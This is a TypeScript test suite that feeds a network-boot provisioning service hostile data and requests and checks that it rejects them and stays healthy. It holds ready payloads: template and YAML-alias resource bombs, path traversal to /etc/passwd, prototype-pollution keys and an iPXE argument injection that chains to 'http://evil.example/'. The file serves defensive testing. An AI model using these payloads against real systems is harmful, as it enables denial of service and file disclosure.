import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { ask, askRaw } from '../support/service.ts';
import { type ServiceProcess, startRefused, startServiceProcess } from '../support/service-process.ts';
import { writeSite } from '../support/site.ts';

/** Most that the service without its helper may ever hold resident, whatever it is given. */
const MIB = 400;

type Files = Readonly<Record<string, string | Buffer>>;

const GOOD: Files = {
  'groups/good.json': '{"profile":"good","selector":{"good":"1"},"metadata":{"name":"good"}}',
  'profiles/good.json': '{"id":"good","generic_id":"good"}',
  'generic/good': 'hello {{.name}}',
};

/** The service lives, serves the good document, and has not swollen. */
async function assertWell(service: ServiceProcess): Promise<void> {
  const answer = await ask(service.machine, '/generic?good=1');
  assert.equal(answer.body.toString(), 'hello good');
  assert.ok(service.alive());
  const { peak } = await service.memory();
  assert.ok(peak < MIB, `${peak} MiB`);
}

/** A group for the machines of one case, and its profile. */
const groupOf = (id: string, metadata: string, documents: object, more = {}): Files => ({
  [`groups/${id}.json`]: `{"profile":"${id}","selector":{"case":"${id}"},"metadata":${metadata}}`,
  [`profiles/${id}.json`]: JSON.stringify({ id, ...documents }),
  ...more,
});
const generic =
  (template: string, metadata = '{}') =>
  (id: string) =>
    groupOf(id, metadata, { generic_id: id }, { [`generic/${id}`]: template });
const ignition =
  (template: string | Buffer, metadata = '{}', name = '') =>
  (id: string) =>
    groupOf(id, metadata, { ignition_id: `${id}${name}` }, { [`ignition/${id}${name}`]: template });
const cloud = (template: string) => (id: string) => groupOf(id, '{}', { cloud_id: id }, { [`cloud/${id}`]: template });
const boot = (text: object) => (id: string) => groupOf(id, '{}', { boot: text });

const HEAD = 'variant: fcos\nversion: 1.5.0\n';
const deep = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;
const aliases = () => {
  const levels = Array.from({ length: 20 }, (_, level) => {
    const inner = level === 0 ? 'lol' : `*l${level - 1}`;
    return `l${level}: &l${level} [${Array.from({ length: 10 }, () => inner).join(', ')}]`;
  });
  return levels.join('\n');
};

const BROKEN = '503 `profile-broken`';

/** Data directories with one thing in them, the path that asks for it, and the answer. */
const DOCUMENTS: readonly (readonly [title: string, files: (id: string) => Files, path: string, answer: string])[] = [
  ['a group of 500,000 levels', (id) => groupOf(id, deep(500_000), { generic_id: 'good' }), '/metadata', '404'],
  ['metadata of 5,000 levels', (id) => groupOf(id, `{"a":${deep(5_000)}}`, {}), '/metadata', '404'],
  [
    'metadata with names of the language',
    (id) => groupOf(id, '{"__proto__":{"a":"1"},"constructor":"2"}', {}),
    '/metadata',
    '200',
  ],
  ['a number that no float64 holds', (id) => groupOf(id, '{"a":1e999}', {}), '/metadata', '404'],
  [
    '50,000 values',
    (id) => groupOf(id, `{${Array.from({ length: 50_000 }, (_, n) => `"k${n}":1`).join()}}`, {}),
    '/metadata',
    '200',
  ],
  [
    'a group that is no UTF-8',
    (id) => ({ [`groups/${id}.json`]: Buffer.from([0x7b, 0xff, 0x7d]) }),
    '/metadata',
    '404',
  ],
  ['a document in another folder', (id) => groupOf(id, '{}', { generic_id: '../groups/good.json' }), '/generic', '404'],
  [
    'a document out of the directory',
    (id) => groupOf(id, '{}', { generic_id: '../../../../../../etc/passwd' }),
    '/generic',
    '404',
  ],
  ['a document by its absolute path', (id) => groupOf(id, '{}', { ignition_id: '/etc/passwd' }), '/ignition', '404'],
  ['a document with a NUL in its name', (id) => groupOf(id, '{}', { cloud_id: 'a\0b' }), '/cloud', '404'],
  [
    'a template that calls itself',
    generic('{{define "a"}}{{template "a" .}}{{end}}{{template "a" .}}'),
    '/generic',
    BROKEN,
  ],
  ['a loop over a billion', generic('{{range 1000000000}}{{end}}'), '/generic', BROKEN],
  [
    'loops within loops',
    generic('{{range 1000}}{{range 1000}}{{range 1000}}x{{end}}{{end}}{{end}}'),
    '/generic',
    BROKEN,
  ],
  [
    'a text that doubles itself',
    generic(`{{$s := "xxxxxxxxxxxxxxxx"}}${'{{$s = print $s $s}}'.repeat(40)}{{$s}}`),
    '/generic',
    BROKEN,
  ],
  ['a width of a billion', generic('{{printf "%1000000000d" 1}}'), '/generic', '200'],
  ['100,000 blocks inside of each other', generic('{{if true}}'.repeat(50_000)), '/generic', BROKEN],
  ['a call of what is no function', generic('{{call .a}}', '{"a":"b"}'), '/generic', BROKEN],
  ['a template of YAML aliases', ignition(`${HEAD}${aliases()}\n`), '/ignition', BROKEN],
  ['aliases out of the metadata', ignition(`${HEAD}{{.a}}\n`, JSON.stringify({ a: aliases() })), '/ignition', BROKEN],
  [
    'a template that gives 2 MB of Butane',
    ignition(`${HEAD}# {{range 200000}}0123456789{{end}}\n`),
    '/ignition',
    BROKEN,
  ],
  [
    'a mapping as a key beside a merge key, on which butane panics',
    ignition(`${HEAD}storage: { files: [ &t { path: /a }, { <<: *t, {}: /b } ] }\n`),
    '/ignition',
    BROKEN,
  ],
  ['Ignition of 500,000 levels', ignition(deep(500_000), '{}', '.ign'), '/ignition', BROKEN],
  ['Ignition that is no UTF-8', ignition(Buffer.from([0x7b, 0xff, 0x7d]), '{}', '.ign'), '/ignition', BROKEN],
  [
    'a file of the service',
    ignition(`${HEAD}storage: { files: [{ path: /a, contents: { local: /etc/passwd } }] }\n`),
    '/ignition',
    BROKEN,
  ],
  ['a cloud-config of aliases', cloud(`#cloud-config\n${aliases()}\n`), '/cloud', BROKEN],
  ['a boot with another line', boot({ kernel: 'k\nchain http://evil.example/' }), '/ipxe', BROKEN],
  ['a boot with another line of GRUB', boot({ kernel: 'k', args: ['a\rb'] }), '/grub', BROKEN],
];

test('A data directory may hold anything, and the others are served', async (t) => {
  const files = DOCUMENTS.map(([, make], index) => make(`c${index}`));
  const site = await writeSite(t, Object.assign({}, GOOD, ...files));
  const service = await startServiceProcess(t, { site });
  if (service === undefined) return;
  for (const [index, [title, , path, expected]] of DOCUMENTS.entries()) {
    await t.test(title, async () => {
      const started = performance.now();
      const answer = await ask(service.machine, `${path}?case=c${index}`);
      assert.ok(performance.now() - started < 10_000, 'the machine still waits');
      assert.equal(described(answer.status, answer.body), expected);
      assert.ok(!answer.body.includes('root:'), 'nothing of another file');
      await assertWell(service);
    });
  }
});

/** A status, and the code of a problem. */
function described(status: number, body: Buffer): string {
  if (status !== 400 && status !== 503) return `${status}`;
  return `${status} \`${JSON.parse(body.toString()).code}\``;
}

/** What ends a start. */
const REFUSED: readonly (readonly [title: string, files: Files, code: string])[] = [
  ['a document of 2 MB', { 'generic/big': 'x'.repeat(2 * 1024 * 1024) }, 'too-large'],
  [
    'nine documents of 1 MB',
    Object.fromEntries(Array.from({ length: 9 }, (_, n) => [`generic/${n}`, 'x'.repeat(1024 * 1024)])),
    'too-large',
  ],
  [
    '11,000 groups',
    Object.fromEntries(Array.from({ length: 11_000 }, (_, n) => [`groups/${n}.json`, '{}'])),
    'too-large',
  ],
];

for (const [title, files, code] of REFUSED) {
  test(`A data directory with ${title} ends a start`, async (t) => {
    const refused = await startRefused(t, { site: await writeSite(t, { ...GOOD, ...files }) });
    if (refused === undefined) return;
    assert.deepEqual([refused.exitCode, [...new Set(refused.reports.map((report) => report.code))]], [1, [code]]);
  });
}

const many = (count: number) => Array.from({ length: count }, (_, index) => `k${index}`).join('&');

/** Requests word for word, and the answers. */
const REQUESTS: readonly (readonly [title: string, request: string, answer: string])[] = [
  ['2,400 labels in 14 KiB', get(`/metadata?good=1&${many(2_400)}`), '200'],
  ['a query of 100 KB', get(`/metadata?good=1&${many(20_000)}`), '400 `request-invalid`'],
  ['a query of nothing but semicolons', get(`/metadata?good=1&${';'.repeat(10_000)}`), '200'],
  ['a query of nothing but ampersands', get(`/metadata?good=1${'&'.repeat(10_000)}`), '200'],
  ['bad percent escapes in the query', get('/metadata?good=1&a=%zz&%=b&c=%4'), '200'],
  ['labels that are no UTF-8', get('/metadata?good=1&a=%ff%fe'), '200'],
  ['names of the language as labels', get('/metadata?good=1&__proto__=1&constructor=2'), '200'],
  ['a label of another case', get('/metadata?GOOD=1'), '404'],
  ['a MAC of 10,000 digits', get(`/metadata?good=1&mac=${'0'.repeat(10_000)}`), '200'],
  ['a bad percent escape in the path', get('/%zz?good=1'), '400 `request-invalid`'],
  ['dots in the path', get('/../../etc/passwd'), '301'],
  ['encoded dots in the path', get('/assets/%2e%2e/%2e%2e/etc/passwd'), '404'],
  ['ten thousand slashes', get('/'.repeat(10_000)), '301'],
  ['500 ranges', get('/generic?good=1', `Range: bytes=${Array.from({ length: 500 }, () => '0-1').join()}\r\n`), '416'],
  ['a range that is none', get('/generic?good=1', 'Range: bytes=a-b\r\n'), '416'],
  ['a method that is none', get('/generic?good=1').replace('GET', 'EVIL'), '400 `request-invalid`'],
  [
    'a body of 100 KB',
    `POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\nConnection: close\r\n\r\n${'x'.repeat(100_000)}`,
    '400 `request-invalid`',
  ],
];

function get(path: string, headers = ''): string {
  return `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${headers}\r\n`;
}

test('A request for a data directory may be anything, and the next one is answered', async (t) => {
  const service = await startServiceProcess(t, { site: await writeSite(t, GOOD) });
  if (service === undefined) return;
  for (const [title, request, expected] of REQUESTS) {
    await t.test(title, async () => {
      const answer = await askRaw(service.machine, request);
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]);
      const body = answer.slice(answer.indexOf('\r\n\r\n') + 4);
      assert.equal(described(status, Buffer.from(body)), expected, answer.slice(0, 500));
      await assertWell(service);
    });
  }
});

test('docs/hostile-input.md has a row for each input that is tried, with its answer', async () => {
  const rows = [
    ...DOCUMENTS.map(([title, , path, answer]) => `| ${title} | \`${path}\` | ${answer} |`),
    ...REFUSED.map(([title, , code]) => `| ${title} | \`${code}\` |`),
    ...REQUESTS.map(([title, , answer]) => `| ${title} | ${answer} |`),
  ];
  const page = await readFile('docs/hostile-input.md', 'utf8');
  const section = page.slice(page.indexOf('## Data directories of matchbox'), page.indexOf('## Connections'));
  const lines = new Set(section.split('\n'));
  assert.deepEqual(
    rows.filter((row) => !lines.has(row)),
    [],
  );
});
